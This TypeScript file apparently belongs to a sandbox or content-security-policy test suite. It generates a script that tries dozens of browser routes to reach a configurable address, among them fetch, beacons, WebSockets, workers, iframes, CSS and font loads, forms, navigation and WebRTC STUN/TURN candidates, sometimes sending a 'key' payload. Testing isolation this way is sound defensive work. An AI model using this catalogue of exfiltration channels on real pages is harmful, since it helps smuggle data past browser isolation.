/**
 * Source that tries every way out of a page that its author knows, each to an address of its own
 * that `address(way)`, an expression, gives. Resolves once all have ended.
 */
export const tryEveryWayOut = (address: string) => `(async () => {
  const address = ${address}
  const ended = []
  const tried = (work) => new Promise((resolve) => {
    // What never answers is heard of by whoever it was sent to.
    setTimeout(resolve, 1_000)
    Promise.resolve().then(work).then(resolve, (error) => resolve(ended.push(String(error))))
  })
  const make = (name, properties, attributes = {}) => {
    const made = Object.assign(document.createElement(name), properties)
    for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value)
    document.body.append(made)
    return made
  }
  const loaded = (element) => new Promise((resolve) => { element.onload = element.onerror = resolve })
  const blob = (text, type) => URL.createObjectURL(new Blob([text], { type }))
  const script = (way) => "fetch('" + address(way) + "')"
  const frame = (properties) => loaded(make('iframe', properties))
  const page = (way) => '<meta http-equiv="refresh" content="0;url=' + address(way) + '"><img src="' + address(way) + '">'
  const peer = async (iceServers) => {
    const [one, other] = [new RTCPeerConnection({ iceServers }), new RTCPeerConnection()]
    one.createDataChannel('leak')
    const gathered = new Promise((resolve) => {
      one.onicegatheringstatechange = () => one.iceGatheringState === 'complete' && resolve()
    })
    await one.setLocalDescription()
    await other.setRemoteDescription(one.localDescription)
    await other.setLocalDescription()
    await one.setRemoteDescription(other.localDescription)
    const { hostname, port } = new URL(address('candidate'))
    for (const kind of ['udp', 'tcp']) {
      const end = kind === 'tcp' ? ' tcptype passive' : ''
      const candidate = 'candidate:1 1 ' + kind + ' 2122260223 ' + hostname + ' ' + (port || 9999) + ' typ host' + end
      await one.addIceCandidate({ candidate, sdpMid: '0' })
    }
    await one.addIceCandidate({ candidate: 'candidate:2 1 udp 2122260223 key.local 9999 typ host', sdpMid: '0' })
    await gathered
  }
  const login = { username: 'key', credential: 'key' }
  const host = (way) => new URL(address(way)).host

  await Promise.all([
    () => fetch(address('fetch'), { mode: 'no-cors' }),
    () => fetch(address('keepalive'), { mode: 'no-cors', keepalive: true, method: 'POST', body: 'key' }),
    () => window.fetchLater(address('later'), { activateAfter: 0 }),
    () => navigator.sendBeacon(address('beacon'), 'key'),
    () => new WebTransport(address('transport').replace('http:', 'https:')).ready,
    () => new WebSocket('wss://' + host('socket')),
    () => new WebSocketStream('wss://' + host('socket-stream')).opened,
    () => new EventSource(address('events')),
    () => import(address('import')),
    () => navigator.serviceWorker.register(address('service-worker')),
    () => navigator.serviceWorker.register('/assets/worker.js'),
    () => new Worker(address('worker')),
    () => new Worker(blob(script('blob-worker'), 'text/javascript')),
    () => new SharedWorker(address('shared-worker')),
    () => new SharedWorker('data:text/javascript,' + encodeURIComponent(script('data-worker'))),
    ...['preconnect', 'dns-prefetch', 'prefetch', 'prerender', 'preload', 'modulepreload', 'stylesheet',
      'icon', 'manifest', 'next', 'search'].map((rel) =>
        () => document.head.append(Object.assign(document.createElement('link'), { rel, as: 'image', href: address(rel) }))),
    () => make('script', { type: 'speculationrules' }).append(JSON.stringify({
      prefetch: [{ source: 'list', urls: [address('speculation')] }],
      prerender: [{ source: 'list', urls: [address('prerender-rule')] }],
    })),
    () => loaded(make('img', { src: address('image') })),
    () => loaded(make('img', { srcset: address('srcset') + ' 2x' })),
    () => loaded(make('video', { src: address('video'), poster: address('poster') })),
    () => loaded(make('audio', { src: address('audio') })),
    () => loaded(make('object', { data: address('object') })),
    () => loaded(make('embed', { src: address('embed'), type: 'application/pdf' })),
    () => loaded(make('embed', { src: blob('%PDF-1.4', 'application/pdf'), type: 'application/pdf' })),
    () => make('input', { type: 'image', src: address('input') }),
    () => { make('p').style.backgroundImage = 'url(' + address('background') + ')' },
    () => { make('p').style.cursor = 'url(' + address('cursor') + '), auto' },
    () => {
      const sheet = new CSSStyleSheet()
      sheet.replaceSync('body { mask: url(' + address('mask') + ') } @font-face { font-family: x; src: url(' + address('font-face') + ') } p { font-family: x }')
      document.adoptedStyleSheets.push(sheet)
    },
    () => new FontFace('stolen', 'url(' + address('font') + ')').load(),
    () => {
      const drawn = document.createElementNS('http://www.w3.org/2000/svg', 'svg')
      for (const name of ['image', 'use', 'feImage']) {
        const part = document.createElementNS('http://www.w3.org/2000/svg', name)
        part.setAttribute('href', address('svg'))
        drawn.append(part)
      }
      document.body.append(drawn)
    },
    () => frame({ src: address('frame') }),
    () => frame({ src: 'data:text/html,' + encodeURIComponent(page('data-frame')) }),
    () => frame({ src: blob(page('blob-frame'), 'text/html') }),
    () => frame({ src: 'mailto:' + host('mail') }),
    () => {
      const inner = make('iframe').contentWindow
      inner.navigator.sendBeacon(address('frame-beacon'))
      new inner.Image().src = address('frame-image')
      const hint = inner.document.createElement('link')
      Object.assign(hint, { rel: 'dns-prefetch', href: address('frame-hint') })
      inner.document.head.append(hint)
      return inner.fetch(address('frame-fetch'))
    },
    () => make('a', { href: '#here', ping: address('ping') }).click(),
    () => make('a', { href: address('download'), download: 'key' }).click(),
    () => make('a', { href: address('blank'), target: '_blank' }).click(),
    () => window.open(address('open')),
    () => window.open('ssh://' + host('ssh')),
    () => make('form', { action: address('form'), method: 'post' }).submit(),
    () => make('form', { action: address('form-get'), target: '_blank' }).submit(),
    () => document.head.append(Object.assign(document.createElement('meta'), {
      httpEquiv: 'refresh', content: '0;url=' + address('refresh') })),
    () => { location.href = address('location') },
    () => navigation.navigate(address('navigate')).finished,
    () => { location.href = 'mailto:key@' + host('mail') },
    () => new Notification('key', { icon: address('notification') }),
    () => navigator.registerProtocolHandler('web+key', address('handler') + '?%s'),
    () => peer([{ urls: 'stun:' + host('stun') }]),
    () => peer([{ ...login, urls: ['turn:' + host('turn'), 'turn:' + host('turn-tcp') + '?transport=tcp', 'turns:' + host('turns') + '?transport=tcp'] }]),
  ].map(tried))
  return ended
})()`
